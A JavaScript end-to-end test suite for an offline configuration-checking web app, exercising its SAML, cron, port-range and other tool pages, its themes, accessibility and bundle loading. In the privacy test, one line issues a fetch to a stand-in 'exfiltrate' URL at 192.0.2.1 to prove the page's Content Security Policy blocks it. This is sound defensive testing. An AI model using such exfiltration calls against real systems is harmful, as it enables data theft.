// End-to-end tests of the built app (dist/) in headless Chromium.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { copyFile } from 'node:fs/promises';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { serveDist, launch, openPage, appReady, DIST, ROOT, SHOTS } from './harness.mjs';

let server, origin, browser;
before(async () => {
  ({ server, origin } = await serveDist());
  browser = await launch();
});
after(async () => {
  await browser?.close();
  server?.close();
});

const TOOLS = ['check', 'saml-metadata', 'saml-response', 'cert', 'cron', 'csv-users', 'directory', 'srv', 'ports', 'firewall', 'broadworks'];

async function shot(page, name) {
  const file = join(SHOTS, `${name}.png`);
  await page.screenshot({ path: file, fullPage: false });
  if (process.env.UPDATE_SCREENSHOTS === '1' && name === 'ports-light') {
    await copyFile(file, join(ROOT, 'docs', 'screenshot.png'));
  }
}

test('shell lists every tool, grouped, and every page opens', async () => {
  const { context, page } = await openPage(browser);
  await page.goto(origin + '/');
  await appReady(page);
  const groups = await page.locator('.sidebar .nav-group h2').allTextContents();
  assert.deepEqual(groups, ['Whole setup', 'SSO', 'Directory', 'Network', 'BroadWorks']);
  for (const tool of TOOLS) {
    await page.click(`.sidebar a[href="#/${tool}"]`);
    await page.waitForSelector(`.page[data-tool="${tool}"]`);
    assert.equal(new URL(page.url()).hash, `#/${tool}`);
    const current = await page.getAttribute(`.sidebar a[href="#/${tool}"]`, 'aria-current');
    assert.equal(current, 'page');
    const soon = await page.locator(`.sidebar a[href="#/${tool}"] .soon`).count();
    if (await page.locator('.page.placeholder').count() > 0) {
      assert.equal(soon, 1, `${tool}: a placeholder page must be marked "soon" in the navigation`);
      const text = await page.textContent('.page');
      assert.match(text, /Coming soon/);
      assert.match(text, /not available yet|command-line tool/);
      // A placeholder shows no findings, no results, nothing pretending to work.
      assert.equal(await page.locator('.findings').count(), 0);
    } else {
      assert.equal(soon, 0, `${tool}: a built page must not be marked "soon"`);
      assert.equal(await page.locator('.page.tool').count(), 1);
    }
  }
  // Deep links work on a fresh load.
  await page.goto(origin + '/#/ports');
  await page.waitForSelector('#p2p-min');
  await page.goto(origin + '/#/nope');
  await page.waitForSelector('text=Page not found');
  assert.deepEqual(page.problems, []);
  await context.close();
});

test('P2P tool: the guide\'s invalid example is rejected live, a good range passes', async () => {
  const { context, page } = await openPage(browser);
  await page.goto(origin + '/#/ports');
  await page.waitForSelector('#p2p-min');
  await page.waitForSelector('.all-clear');
  await shot(page, 'ports-light');

  await page.fill('#p2p-min', '1034');
  await page.fill('#p2p-max', '1024');
  await page.waitForSelector('.finding[data-rule="ports/max-not-greater"]');
  assert.equal(await page.locator('.finding.error').count(), 2);
  assert.match(await page.textContent('.finding[data-rule="ports/max-not-greater"]'), /Max 1024 is not greater than Min 1034/);
  assert.equal(await page.locator('.field.invalid').count(), 1);
  assert.match(await page.textContent('.badge.error'), /2/);
  await shot(page, 'ports-invalid');

  // Filtering by severity hides the errors.
  await page.click('.badges .badge.error');
  assert.equal(await page.locator('.finding.error').count(), 0);
  await page.click('.badges .badge.error');

  // Not a number.
  await page.fill('#p2p-min', '12a');
  await page.waitForSelector('.finding[data-rule="ports/not-a-number"]');

  // A narrow range is a warning, not an error.
  await page.fill('#p2p-min', '7050');
  await page.fill('#p2p-max', '7550');
  await page.waitForSelector('.finding[data-rule="ports/narrower-than-default"]');
  assert.equal(await page.locator('.finding.error').count(), 0);
  assert.match(await page.textContent('.range-text'), /7050–7550/);

  await page.click('text=Reset to default');
  await page.waitForSelector('.all-clear');
  await context.close();
});

test('P2P tool: JSON report download carries the input hash', async () => {
  const { context, page } = await openPage(browser);
  await page.goto(origin + '/#/ports');
  await page.waitForSelector('#p2p-min');
  await page.fill('#p2p-min', '1034');
  await page.fill('#p2p-max', '1024');
  await page.waitForSelector('.finding.error');
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('text=Download JSON')]);
  assert.equal(download.suggestedFilename(), 'p2p-ports-report.json');
  const path = await download.path();
  const report = JSON.parse(await (await import('node:fs/promises')).readFile(path, 'utf8'));
  assert.equal(report.tool, 'ports');
  assert.equal(report.summary.errors, 2);
  assert.match(report.input_sha256, /^[0-9a-f]{64}$/);
  await context.close();
});

test('rules page renders the catalog and filters it', async () => {
  const { context, page } = await openPage(browser);
  await page.goto(origin + '/#/rules');
  await page.waitForSelector('.rule');
  assert.ok(await page.locator('.rule').count() >= 6);
  await page.fill('.search input', 'max-not-greater');
  assert.equal(await page.locator('.rule').count(), 1);
  assert.match(await page.textContent('.rule'), /P2P Settings/);
  // Every rule shows an input that fires it and a near miss.
  assert.ok(await page.locator('.rule .rule-examples li.fires').count() >= 1);
  assert.ok(await page.locator('.rule .rule-examples li.quiet').count() >= 1);
  // A long example (a whole metadata document) opens in full.
  await page.fill('.search input', 'saml/xml-dtd-refused');
  const full = page.locator('.rule .example-full').first();
  await full.locator('summary').click();
  assert.match(await full.locator('pre').textContent(), /<!DOCTYPE[\s\S]*<\/md:EntityDescriptor>/);
  // A finding's rule id links to the rule.
  await page.goto(origin + '/#/ports');
  await page.fill('#p2p-max', '1');
  await page.click('.finding a.rule-id >> nth=0');
  await page.waitForSelector('.rule');
  assert.equal(await page.locator('.rule').count(), 1);
  await context.close();
});

test('theme: follows the system, and the toggle switches light and dark', async () => {
  const { context, page } = await openPage(browser, { colorScheme: 'dark' });
  await page.goto(origin + '/#/ports');
  await page.waitForSelector('#p2p-min');
  const bg = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
  assert.equal(await bg(), 'rgb(17, 21, 27)');
  await shot(page, 'ports-dark');
  await page.click('.theme-toggle'); // auto -> light
  assert.equal(await page.getAttribute('html', 'data-theme'), 'light');
  assert.equal(await bg(), 'rgb(246, 247, 249)');
  await page.click('.theme-toggle'); // light -> dark
  assert.equal(await bg(), 'rgb(17, 21, 27)');
  // The choice survives a reload.
  await page.reload();
  await page.waitForSelector('#p2p-min');
  assert.equal(await page.getAttribute('html', 'data-theme'), 'dark');
  await context.close();
});

test('narrow screens: 360 px wide without horizontal scrolling, menu opens the navigation', async () => {
  const { context, page } = await openPage(browser, { viewport: { width: 360, height: 740 } });
  await page.goto(origin + '/#/ports');
  await page.waitForSelector('#p2p-min');
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  assert.ok(overflow <= 0, `page is ${overflow}px wider than the screen`);
  assert.equal(await page.isVisible('.menu-button'), true);
  await page.click('.menu-button');
  await page.waitForTimeout(250);
  await shot(page, 'mobile-nav');
  await page.click('.sidebar a[href="#/rules"]');
  await page.waitForSelector('.rule');
  await context.close();
});

test('keyboard: skip link and tab order reach the tool', async () => {
  const { context, page } = await openPage(browser);
  await page.goto(origin + '/#/ports');
  await page.waitForSelector('#p2p-min');
  await page.keyboard.press('Tab');
  assert.equal(await page.evaluate(() => document.activeElement.className), 'skip-link');
  await page.keyboard.press('Enter');
  // The skip link moves focus without changing the route.
  assert.equal(new URL(page.url()).hash, '#/ports');
  assert.equal(await page.evaluate(() => document.activeElement.id), 'main');
  // Next tab stops lead into the page, reaching the Min box.
  let reached = false;
  for (let i = 0; i < 10 && !reached; i++) {
    await page.keyboard.press('Tab');
    reached = await page.evaluate(() => document.activeElement.id === 'p2p-min');
  }
  assert.ok(reached, 'Min box not reachable by keyboard');
  await page.keyboard.type('x');
  await page.waitForSelector('.finding[data-rule="ports/not-a-number"]');
  await context.close();
});

test('privacy: no request leaves the page\'s origin, and the CSP is strict', async () => {
  const { context, page } = await openPage(browser);
  await page.goto(origin + '/');
  await appReady(page);
  // Each page loaded in full (pages live in several bundles, www/boot.js).
  for (const hash of ['#/rules', '#/about', ...TOOLS.map((t) => `#/${t}`)]) {
    await page.goto(`${origin}/?visit=${hash.slice(2)}${hash}`);
    await page.waitForSelector('main .page, main section', { timeout: 20000 });
  }
  await page.goto(origin + '/?visit=last#/ports');
  await page.fill('#p2p-min', '1034');
  await page.fill('#p2p-max', '1024');
  await page.waitForSelector('.finding.error');
  const foreign = page.requests.filter((u) => !u.startsWith(origin + '/') && !u.startsWith('data:') && !u.startsWith('blob:'));
  assert.deepEqual(foreign, [], 'requests to other origins');
  const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
  assert.match(csp, /default-src 'none'/);
  assert.match(csp, /connect-src 'self'/);
  assert.doesNotMatch(csp, /https?:/);
  // The CSP really blocks other origins.
  const blocked = await page.evaluate(async () => {
    try { await fetch('http://192.0.2.1/exfiltrate', { mode: 'no-cors' }); return false; } catch { return true; }
  });
  assert.equal(blocked, true);
  assert.deepEqual(page.problems.filter((p) => !/192\.0\.2\.1|Content Security Policy/.test(p)), []);
  await context.close();
});

test('standalone file: the whole app opens from file:// and works offline', async () => {
  const { context, page } = await openPage(browser);
  await page.goto(pathToFileURL(join(DIST, 'preflight-standalone.html')).href + '#/ports');
  await page.waitForSelector('#p2p-min');
  await page.fill('#p2p-min', '1034');
  await page.fill('#p2p-max', '1024');
  await page.waitForSelector('.finding[data-rule="ports/max-not-greater"]');
  const foreign = page.requests.filter((u) => !u.startsWith('file:') && !u.startsWith('data:'));
  assert.deepEqual(foreign, []);
  assert.deepEqual(page.problems, []);
  await context.close();
});

test('page bundles: the home page loads only the home bundle; a tool page loads its own', async () => {
  const { context, page } = await openPage(browser);
  await page.goto(origin + '/');
  await appReady(page);
  const wasm = () => page.requests.filter((u) => u.endsWith('.wasm')).map((u) => new URL(u).pathname);
  assert.deepEqual(wasm(), ['/preflight-app-home_bg.wasm'], 'the first view downloads one small wasm');
  // The navigation moves to the cron page, in the cron bundle.
  await page.click('.sidebar a[href="#/cron"]');
  await page.waitForSelector('.page[data-tool="cron"] #cron-expr');
  assert.ok(wasm().includes('/preflight-app-cron_bg.wasm'));
  assert.ok(!wasm().some((u) => /preflight-web_bg|preflight-app-(saml|check)/.test(u)), `no other tool's bundle: ${wasm()}`);
  await page.fill('#cron-expr', '0 0 25 * * ?');
  await page.waitForSelector('.finding[data-rule="cron/out-of-range"]');
  // Back to the overview, and on to a page of a third bundle.
  await page.goBack();
  await page.waitForSelector('.page.home, main h1');
  await page.click('.sidebar a[href="#/ports"]');
  await page.waitForSelector('#p2p-min');
  assert.equal(await page.getAttribute('.sidebar a[href="#/ports"]', 'aria-current'), 'page');
  assert.equal(await page.locator('text=This page is not in this build').count(), 0);
  assert.deepEqual(page.problems, []);
  await context.close();
});
